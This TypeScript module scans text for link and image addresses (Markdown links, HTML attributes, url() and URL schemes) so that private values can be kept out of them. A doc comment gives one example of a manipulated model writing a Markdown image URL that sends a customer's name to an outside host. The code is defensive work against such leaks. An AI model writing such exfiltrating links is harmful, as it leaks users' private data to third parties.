import {
  BACKSLASH,
  isWord,
  joined,
  newUnit,
  OTHER,
  PERCENT,
  PLAIN,
  read,
  SPACE,
  type Unit,
} from './units.ts';

/**
 * Where a text holds link and image addresses. Real values must not get into them: a model that was talked into
 * writing `![](https://elsewhere/?q=Emma)` would otherwise carry a customer's name out as soon as the page shows it.
 */
export interface AddressState {
  /** 0 outside; else the character that ends the address, or one of the two values below. */
  until: number;
  /** Open round brackets inside a Markdown destination. */
  depth: number;
  /** Between `<` and `>` of an HTML tag. */
  tag: boolean;
}

/** Ends at white space and at the characters that cannot stand in a bare address. */
const BARE = 1;
/** Ends at anything that is not part of a domain. */
const DOMAIN = 2;

export const newAddressState = (): AddressState => ({ until: 0, depth: 0, tag: false });

const SCHEMES = /^(?:mailto|tel|sms|callto|sips?|xmpp|geo|javascript|facetime|skype|whatsapp|data):[^\s/]/i;
const ATTRIBUTES =
  /^(href|src|srcset|action|formaction|poster|background|cite|longdesc|ping|manifest|codebase|data|icon|content|style)((?:\s|\\[nrt])*=(?:\s|\\[nrt])*)(\\*["']|&quot;|&#39;)?/i;
const OUTSIDE_TAGS = new Set(['href', 'src', 'srcset']);

/** How far the two openings above are looked for. */
export const OPENING = 32;

const code = (char: string): number => char.charCodeAt(0);
const BARE_ENDS = new Set([...'<>"`|'].map(code));

/** Looks at a word's start for the openings of an address; `look` is the text from there, OPENING long if it can be. */
export function openAtWord(state: AddressState, look: string): number {
  if (state.until !== 0) return 0;
  if (/^www\d?\./i.test(look)) {
    state.until = BARE;
    return 0;
  }
  if (SCHEMES.test(look) && (look.slice(0, 5).toLowerCase() !== 'data:' || state.tag)) {
    state.until = BARE;
    return 0;
  }
  const style = /^url\((\\*["'])?/i.exec(look);
  if (style !== null) {
    state.until = style[1] === undefined ? code(')') : code(style[1].at(-1)!);
    state.depth = 0;
    return style[0].length;
  }
  const attribute = ATTRIBUTES.exec(look);
  if (attribute === null || !(state.tag || OUTSIDE_TAGS.has(attribute[1]!.toLowerCase()))) return 0;
  const quote = attribute[3];
  if (quote === undefined) state.until = BARE;
  else state.until = quote.endsWith('"') || quote === '&quot;' ? code('"') : code("'");
  return attribute[0].length;
}

const NAMES = [
  ...'www mailto tel sms callto sip sips xmpp geo javascript facetime skype whatsapp data url'.split(' '),
  ...'href src srcset action formaction poster background cite longdesc ping manifest codebase icon content style'.split(
    ' ',
  ),
];

// The first three letters of each, five bits a letter, because nearly every word is none of them.
const prefixes = new Uint8Array(1 << 15);
const prefix = (a: number, b: number, c: number): number => ((a & 31) << 10) | ((b & 31) << 5) | (c & 31);
for (const name of NAMES) prefixes[prefix(name.charCodeAt(0), name.charCodeAt(1), name.charCodeAt(2))] = 1;

/** True for words at which `openAtWord` must look, and for words cut off before their third letter. */
export const mayOpen = (text: string, at: number): boolean =>
  at + 2 >= text.length ||
  prefixes[prefix(text.charCodeAt(at), text.charCodeAt(at + 1), text.charCodeAt(at + 2))] === 1;

/** True when `look`, the beginning of a text that may go on, could still turn out to open an address. */
export function mayYetOpen(look: string): boolean {
  const word = /^[a-z]*/i.exec(look)![0].toLowerCase();
  return word.length === look.length ? NAMES.some((name) => name.startsWith(word)) : NAMES.includes(word);
}

/** Takes one unit that is no part of a match. `look` gives the text after it. */
export function passUnit(
  state: AddressState,
  text: string,
  at: number,
  unit: Unit,
  afterWord: boolean,
): void {
  if (state.until !== 0) {
    if (ends(state, unit, text.charCodeAt(at))) state.until = 0;
    else return;
  }
  if (isWord(unit.kind)) return;
  const char = unit.code;
  const next = unit.next;
  if (char === code(':') && afterWord && text.startsWith('//', next)) state.until = BARE;
  else if (char === code('@') && afterWord && next < text.length && wordAt(text, next)) state.until = DOMAIN;
  else if (char === code('(') && text.charCodeAt(at - 1) === code(']')) {
    state.until = text.charCodeAt(next) === code('<') ? code('>') : code(')');
    state.depth = 0;
  } else if (char === code('<')) state.tag = next < text.length && /[a-z/!]/i.test(text[next]!);
  else if (char === code('>')) state.tag = false;
}

const peek = newUnit();
function wordAt(text: string, at: number): boolean {
  read(text, at, peek);
  return isWord(peek.kind);
}

function ends(state: AddressState, unit: Unit, raw: number): boolean {
  if (state.until === DOMAIN) return !isWord(unit.kind) && unit.code !== code('.') && unit.code !== code('-');
  const space = unit.kind === SPACE && (unit.written === PLAIN || unit.written === BACKSLASH);
  if (state.until === BARE) return space || (unit.written !== PERCENT && BARE_ENDS.has(unit.code));
  const line = raw === code('\n') || raw === code('\r');
  if (state.until !== code(')')) return line || (unit.code === state.until && unit.written !== PERCENT);
  if (unit.code === code('(')) state.depth++;
  if (unit.code === code(')') && state.depth-- === 0) return true;
  return space && state.depth <= 0 && unit.written === PLAIN;
}

const ANY =
  /:\/\/|\]\(|www|href|src|url\(|<[a-z]|&lt;|(?:mailto|tel|sms|callto|sips?|xmpp|geo|javascript|facetime|skype|whatsapp):/i;

/** The link and image addresses of a text, in order, without closing punctuation. Linear in the text. */
export function addressesIn(text: string): { start: number; end: number }[] {
  if (!ANY.test(text)) return [];
  const found: { start: number; end: number }[] = [];
  const state = newAddressState();
  const unit = newUnit();
  let before = SPACE;
  let wordStart = 0;
  let opened = -1;
  const close = (end: number) => {
    let last = end;
    while (last > opened && /[.,;:!?)\]}'"*_~]/.test(text[last - 1]!)) last--;
    if (last > opened) found.push({ start: opened, end: last });
    opened = -1;
  };
  for (let at = 0; at < text.length; at = unit.next) {
    read(text, at, unit);
    const starts = isWord(unit.kind) && !joined(before, unit.kind);
    if (starts) wordStart = at;
    if (starts && state.until === 0 && mayOpen(text, at)) {
      const length = openAtWord(state, text.slice(at, at + OPENING));
      if (length > 0) {
        opened = at + length;
        unit.next = at + length;
        before = OTHER;
        continue;
      }
      if (state.until !== 0) opened = at;
    }
    const was = state.until;
    passUnit(state, text, at, unit, isWord(before));
    if (was !== 0 && state.until === 0) {
      if (opened >= 0) close(at);
    } else if (was === 0 && state.until === BARE && opened < 0) opened = wordStart;
    else if (was === 0 && state.until > DOMAIN && opened < 0)
      opened = text.charCodeAt(unit.next) === code('<') ? unit.next + 1 : unit.next;
    else if (state.until === DOMAIN) opened = -1;
    before = unit.kind;
  }
  if (opened >= 0 && state.until !== 0) close(text.length);
  return found;
}
